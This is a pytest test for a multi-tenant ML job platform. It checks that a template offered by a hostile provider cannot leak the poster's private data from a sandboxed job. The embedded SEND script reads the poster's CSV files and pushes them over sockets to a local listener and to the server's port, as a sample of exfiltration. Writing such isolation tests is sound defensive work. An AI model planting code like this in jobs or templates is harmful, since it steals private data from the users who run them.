"""A hostile provider's offer (issue 41): the template it offers runs as the poster's own job on
the poster's private data, so its code is hostile to the poster. On the real server, with the
bubblewrap sandbox and the job's own network: its `train.py` tries to send the poster's rows to
a listener on the machine and to the server's port, and reaches neither (0 accepted); the
provider sees neither the poster's job nor its logs nor its outputs; the deployment key the
poster was given opens that one deployment and nothing of the provider's API."""

from __future__ import annotations

import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest

from aicc.testing import templates
from aicc.testing.datasets import push
from aicc.testing.deployments import deploy
from aicc.testing.isolation import Listener, listening
from aicc.testing.jobs import wait_state
from aicc.testing.servers import over_http
from aicc.testing.tenants import make_tenant

SECRET = "poster-row-51c2"  # the poster's private rows hold it: seen outside, they leaked

SEND = """
import glob, os, socket, sys
rows = b""
for path in glob.glob(os.environ.get("AICC_DATA_DIR", "/data") + "/**/*.csv", recursive=True):
    rows += open(path, "rb").read()
reached = []
for target in TARGETS:
    host, port = target.rsplit(":", 1)
    try:
        socket.create_connection((host, int(port)), timeout=3).sendall(rows)
        reached.append(target)
    except OSError as exc:
        print("REFUSED", target, type(exc).__name__, flush=True)
print("READ", len(rows), "bytes", flush=True)
sys.exit(0 if reached else 4)
"""


@pytest.fixture
def listener() -> Iterator[Listener]:
    with listening("0.0.0.0") as opened:
        yield opened


def test_an_offered_template_cannot_send_the_posters_data_out(
    tmp_path: Path, listener: Listener
) -> None:
    with (
        over_http(tmp_path / "home", limits={"grace_s": 1.0}) as (url, token, _state),
        httpx.Client(timeout=60, base_url=url, headers={"Authorization": f"Bearer {token}"}) as api,
    ):
        city_t = make_tenant(api, "city", role="org_admin")
        mallory_t = make_tenant(api, "mallory", role="org_admin")
        with (
            httpx.Client(timeout=60, base_url=url, headers=city_t.headers) as city,
            httpx.Client(timeout=60, base_url=url, headers=mallory_t.headers) as mallory,
        ):
            rows = "y,note\n" + "".join(f"{i},{SECRET}\n" for i in range(20))
            push(city, "letters", {"rows.csv": rows.encode()})
            deadline = (datetime.now(UTC) + timedelta(days=3)).isoformat()
            need = {"name": "sort", "title": "t", "problem": "p", "metric": "mae"}
            assert (
                city.post("/api/v1/needs", json={**need, "deadline": deadline}).status_code == 201
            )

            server = urlsplit(url)
            targets = [f"127.0.0.1:{listener.port}", f"{server.hostname}:{server.port}"]
            files = templates.own("helpful")
            files["train.py"] = f"TARGETS = {targets!r}\n" + SEND
            made = mallory.post("/api/v1/templates", json={"files": files, "price": "1"})
            assert made.status_code == 201, made.text
            ref = made.json()["ref"]
            deploy(api, "oracle", headers=mallory_t.headers)
            offered = [
                mallory.post(
                    "/api/v1/needs/sort/offers?org=city",
                    json={"kind": kind, "ref": target, "price": "1"},
                )
                for kind, target in (("template", ref), ("deployment", "oracle"))
            ]
            assert [o.status_code for o in offered] == [201, 201], [o.text for o in offered]
            accepted = [
                city.post(f"/api/v1/needs/sort/offers/{o.json()['id']}/accept") for o in offered
            ]
            assert [a.status_code for a in accepted] == [200, 200]
            secret = accepted[1].json()["secret"]

            run = city.post(f"/api/v1/templates/{ref}/runs", json={"data": "letters@1"})
            assert run.status_code == 201, run.text
            job = run.json()
            assert job["spec"]["egress"] == "none"  # another organization's code: no network
            ended = wait_state(city, job["id"], {"succeeded", "failed"}, timeout=180)
            log = city.get(f"/api/v1/jobs/{job['id']}/logs").text
            assert ended["state"] == "failed", log
            assert log.count("REFUSED") == 2 and "READ 0 bytes" not in log, log
            time.sleep(1)  # a late connection would have been counted by now
            assert listener.accepted == 0

            # The provider sees nothing of the poster's run, and its key opens no API.
            for path in ("", "/logs", "/outputs"):
                seen = mallory.get(f"/api/v1/jobs/{job['id']}{path}")
                assert seen.status_code == 404, (path, seen.text)
            assert SECRET not in mallory.get("/api/v1/jobs").text
            with_key = {"Authorization": f"Bearer {secret}"}
            for path in ("/api/v1/deployments", "/api/v1/keys", "/api/v1/me"):
                assert httpx.get(f"{url}{path}", headers=with_key).status_code == 401
